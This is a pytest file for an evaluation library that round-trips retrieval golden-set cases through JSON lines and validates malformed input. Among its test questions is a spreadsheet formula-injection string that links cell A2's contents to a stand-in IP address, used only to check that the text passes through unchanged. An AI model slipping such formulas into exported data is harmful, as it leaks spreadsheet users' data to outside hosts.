"""Canonical JSON lines: exact, one line a case, and open to other people's golden sets."""

import json
from pathlib import Path

import pytest
from goldrank.evals import CaseDefaults, read_cases, write_case, write_cases
from goldrank.model import (
    CaseHit,
    CaseLabel,
    CaseList,
    CaseOrigin,
    EvalCase,
    Judgement,
    LabelTarget,
    Level,
    Message,
    StageKind,
    make_case_key,
)

DEFAULTS = CaseDefaults(eval_set="support")


def gold(chunk_id, *, evidence=1, **more):
    """A gold label of a case."""
    return CaseLabel(
        judgement=Judgement.GOLD,
        grade=1,
        evidence=evidence,
        target=LabelTarget(chunk_id=chunk_id, **more),
        who="anna",
        at_ns=1_790_000_000_000_000_001,
    )


def case(question="How do I cancel?", *, case_id="c1", eval_set="support", **more):
    """A case with one gold unless told otherwise."""
    more.setdefault("labels", (gold("cancel#2"),))
    key = make_case_key(
        app=more.get("app", ""),
        question=question,
        history=more.get("history", ()),
        tenant=more.get("tenant"),
        groups=more.get("groups", ()),
    )
    return EvalCase(case_id=case_id, case_key=key, eval_set=eval_set, question=question, **more)


FULL = case(
    app="support-bot",
    environment="prod",
    app_version="2.3",
    standalone="How do I cancel my contract?",
    history=(Message(role="user", text="I have two contracts"), Message(role="assistant", text="Which one?")),
    tenant="north",
    groups=("staff", "admins"),
    filters={"groups": {"any": ["staff"]}, "n": 3, "x": 0.25},
    as_of="2026-10-01",
    labels=(
        gold("cancel#2", doc_id="cancel", index="docs", text="You may cancel …", text_hash="ab" * 16, quote="may"),
        gold("cancel#3"),
        gold("7f", evidence=2),
        CaseLabel(
            judgement=Judgement.FORBIDDEN, target=LabelTarget(level=Level.DOCUMENT, doc_id="internal"), who="b", at_ns=5
        ),
        CaseLabel(judgement=Judgement.NOT_RELEVANT, target=LabelTarget(chunk_id="faq#1")),
    ),
    expected_answer_contains=("30 days", "in writing"),
    origin=CaseOrigin.COMPLAINT,
    source_requests=("0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331",),
    ticket="T-7",
    failing_stage="rerank",
    verdict="demoted",
    lists=(
        CaseList(
            stage="bm25",
            kind=StageKind.RETRIEVE,
            query="cancel",
            hits=(CaseHit(rank=1, chunk_id="x", score=0.1 + 0.2, metadata={"page": 1}), CaseHit(rank=3, chunk_id="y")),
        ),
    ),
    notes={"plan": "pro"},
    note="Seen twice.",
    kind="policy",
    author="anna",
    created_ns=1_790_000_000_000_000_123,
    revision=4,
    archived=True,
    extra={"difficulty": 3, "nested": {"a": [1, None]}},
)


def test_a_full_case_comes_back_equal():
    """Every field of a case survives the way out and back in."""
    read = read_cases(write_cases([FULL]), CaseDefaults(author="somebody else", created_ns=9))

    assert read.bad == ()
    assert [one.case for one in read.cases] == [FULL]


def test_every_field_of_a_case_is_exercised_by_the_full_case():
    """A field that is added to EvalCase later cannot be forgotten in the round trip."""
    assert set(FULL.model_dump(exclude_defaults=True)) == set(EvalCase.model_fields)


def test_the_same_cases_give_the_same_bytes():
    """Cases are sorted by set, then id, and keys are sorted, so a diff shows what changed and nothing else."""
    cases = [case(case_id="b"), case(case_id="a"), case(case_id="z", eval_set="alpha")]

    text = write_cases(cases)

    assert text == write_cases(reversed(cases))
    lines = [json.loads(line) for line in text.splitlines()]
    assert [(line["eval_set"], line["case_id"]) for line in lines] == [
        ("alpha", "z"),
        ("support", "a"),
        ("support", "b"),
    ]
    assert all(list(line) == sorted(line) for line in lines)


def test_no_case_is_the_empty_text():
    """An empty set exports as nothing, and nothing imports as an empty set."""
    assert write_cases([]) == ""
    assert read_cases("", DEFAULTS) == ((), ())


def test_field_names_of_common_golden_sets_stand_at_the_top():
    """Another tool finds ids, groups and phrases under the names that golden sets usually have."""
    line = json.loads(write_case(FULL))

    assert line["question"] == "How do I cancel?"
    assert line["user_groups"] == ["staff", "admins"]
    assert line["relevant_chunk_ids"] == ["cancel#2", "cancel#3", "7f"]
    assert line["relevant_doc_ids"] == []
    assert line["forbidden_chunk_ids"] == []
    assert line["forbidden_doc_ids"] == ["internal"]
    assert line["expected_answer_contains"] == ["30 days", "in writing"]
    assert line["difficulty"] == 3


QUESTIONS = [
    "one\ntwo\r\nthree\rfour",
    'she said "why, really?"',
    "line\u2028separator\u2029and\u0085next",
    "semi;colon\tand tab",
    "  spaces kept  ",
    '{"looks": "like json"}',
    "\\n is two characters here",
    '=HYPERLINK("http://192.0.2.1/?"&A2,"open")',
    "\t=1+1",
    "\u0000 and \u001c and \u007f",
    "Grüße, 质量 and \U0001f600",
]


@pytest.mark.parametrize("question", QUESTIONS)
def test_a_text_is_one_line_and_comes_back_letter_for_letter(question):
    """Separators, quotes, JSON-looking text and formulae neither split a line nor change."""
    text = write_cases([case(question)])

    assert len(text.splitlines()) == 1
    assert read_cases(text, DEFAULTS).cases[0].case.question == question


def test_ids_that_look_like_json_stay_text():
    """A chunk id `[1, 2]` is a text, and so is ` h ` with its spaces."""
    labels = (gold("[1, 2]"), gold(" h ", evidence=2), gold('c"d', evidence=3))

    read = read_cases(write_cases([case(labels=labels)]), DEFAULTS)

    assert [one.target.chunk_id for one in read.cases[0].case.labels] == ["[1, 2]", " h ", 'c"d']


def test_a_seed_with_only_the_common_fields_loads():
    """Other people's golden sets load; each relevant id is needed on its own, and unknown fields are kept."""
    line = {
        "question": "Who may see the price list?",
        "user_groups": ["sales"],
        "relevant_chunk_ids": ["prices#1", "prices#2"],
        "relevant_doc_ids": ["prices"],
        "forbidden_doc_ids": ["margins"],
        "expected_answer_contains": ["sales team"],
        "difficulty": "hard",
    }

    (read,) = read_cases(json.dumps(line), DEFAULTS._replace(app="bot", author="import", created_ns=7)).cases

    found = read.case
    assert (found.app, found.eval_set, found.groups) == ("bot", "support", ("sales",))
    assert found.expected_answer_contains == ("sales team",)
    assert [(one.judgement.value, one.evidence, one.target.chunk_id, one.target.doc_id) for one in found.labels] == [
        ("gold", 1, "prices#1", None),
        ("gold", 2, "prices#2", None),
        ("gold", 3, None, "prices"),
        ("forbidden", None, None, "margins"),
    ]
    assert found.extra == {"difficulty": "hard"}
    assert found.origin is CaseOrigin.WRITTEN
    assert (found.author, found.created_ns) == ("import", 7)


def test_numbers_as_ids_are_texts():
    """42 and "42" are the same id; an import never makes a set of silent zeros."""
    (read,) = read_cases('{"question": "q", "relevant_chunk_ids": [42, "43"]}', DEFAULTS).cases

    assert [one.target.chunk_id for one in read.case.labels] == ["42", "43"]


def test_an_edited_id_list_decides_over_the_detail():
    """Who edits relevant_chunk_ids by hand gets that: removed ids go, new ones come, the others keep their detail."""
    line = json.loads(write_case(FULL))
    line["relevant_chunk_ids"] = ["cancel#2", "new#1"]

    (read,) = read_cases(json.dumps(line), DEFAULTS).cases

    golds = [one for one in read.case.labels if one.judgement is Judgement.GOLD]
    assert [one.target.chunk_id for one in golds] == ["cancel#2", "new#1"]
    assert golds[0] == FULL.labels[0]
    assert [one.evidence for one in golds] == [1, 2]
    assert FULL.labels[4] in read.case.labels


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("{", "no JSON"),
        ("[1, 2]", "a JSON list was found, an object was expected"),
        ('"text"', "a JSON text was found"),
        ('{"question": "", "relevant_chunk_ids": ["i"]}', "`question` is empty or missing"),
        ('{"question": "  ", "relevant_chunk_ids": ["i"]}', "`question` is empty or missing"),
        ('{"question": {"a": 1}, "relevant_chunk_ids": ["i"]}', "`question` holds a JSON object"),
        ('{"question": "q"}', "labels no passage"),
        ('{"question": "q", "relevant_chunk_ids": [""]}', "holds an empty id"),
        ('{"question": "q", "relevant_chunk_ids": [true]}', "holds a JSON true or false"),
        ('{"question": "q", "relevant_chunk_ids": ["a"], "forbidden_chunk_ids": ["a"]}', "both gold and forbidden"),
        ('{"question": "q", "relevant_chunk_ids": ["a"], "history": [{"role": "user"}]}', "has no text"),
        ('{"question": "q", "relevant_chunk_ids": ["a"], "history": "before"}', "a list of messages was expected"),
        ('{"question": "q", "relevant_chunk_ids": ["a"], "origin": "guessed"}', "`origin`"),
        ('{"question": "q", "relevant_chunk_ids": ["a"], "goldrank": {"format": 2}}', "update goldrank"),
        ('{"question": "q", "relevant_chunk_ids": ["a"], "goldrank": 3}', "an object was expected"),
        ('{"question": "q", "relevant_chunk_ids": ["a"], "filters": NaN}', "NaN is no JSON number"),
        ('{"question": "q", "goldrank": {"labels": [{"judgement": "maybe"}]}}', "cannot be read: `judgement`"),
        ("[" * 100_000, "nested too deeply"),
    ],
)
def test_a_bad_line_is_named_with_its_reason_and_the_rest_goes_on(line, reason):
    """One bad line costs one case, not the file."""
    good = write_case(case())

    read = read_cases(f"{good}\n{line}\n{good}", DEFAULTS)

    assert [one.line for one in read.cases] == [1, 3]
    assert [one.line for one in read.bad] == [2]
    assert reason in read.bad[0].reason


def test_byte_order_mark_blank_lines_and_windows_line_ends_are_passed_over():
    """A file that went through a Windows editor loads like any other."""
    text = "\ufeff\r\n" + write_case(case()) + "\r\n\r\n   \r\n"

    read = read_cases(text, DEFAULTS)

    assert [one.line for one in read.cases] == [2]
    assert read.bad == ()


def test_a_raw_line_separator_inside_a_text_ends_no_line():
    """A file written by a tool that leaves U+2028 unescaped still has one case a line."""
    (read,) = read_cases('{"question": "a\u2028b", "relevant_chunk_ids": ["x"]}', DEFAULTS).cases

    assert read.case.question == "a\u2028b"


@pytest.mark.parametrize("half", ["\ud83d", "\\ud83d"])
def test_half_a_character_is_replaced(half):
    """A lone surrogate, raw or escaped, becomes U+FFFD instead of making the file unreadable."""
    (read,) = read_cases('{"question": "sad ' + half + ' face", "relevant_chunk_ids": ["x"]}', DEFAULTS).cases

    assert read.case.question == "sad \ufffd face"


def test_history_may_be_plain_texts_or_messages_of_either_form():
    """{"role", "text"}, {"role", "content"} and plain texts are all read."""
    line = {
        "question": "And now?",
        "relevant_chunk_ids": ["x"],
        "history": ["I have two", {"role": "user", "content": "yes"}, {"role": "assistant", "text": "ok"}],
    }

    (read,) = read_cases(json.dumps(line), DEFAULTS).cases

    assert read.case.history == (
        Message(role="", text="I have two"),
        Message(role="user", text="yes"),
        Message(role="assistant", text="ok"),
    )


def test_the_same_seed_has_the_same_id_in_every_store():
    """Two colleagues who import one file get the same case ids, so their exports can be merged."""
    line = '{"question": "q", "relevant_chunk_ids": ["x"]}'

    one = read_cases(line, DEFAULTS._replace(author="anna", created_ns=1)).cases[0].case
    other = read_cases(line, DEFAULTS._replace(author="ben", created_ns=2)).cases[0].case

    assert one.case_id == other.case_id
    assert one.case_id != read_cases(line, DEFAULTS._replace(eval_set="other")).cases[0].case.case_id


def test_the_room_exports_what_its_docstring_shows():
    """`goldrank.evals` names its public face, sorted."""
    import goldrank.evals

    assert goldrank.evals.__all__ == sorted(goldrank.evals.__all__)
    assert all(hasattr(goldrank.evals, name) for name in goldrank.evals.__all__)
    assert Path(goldrank.evals.__file__).exists()
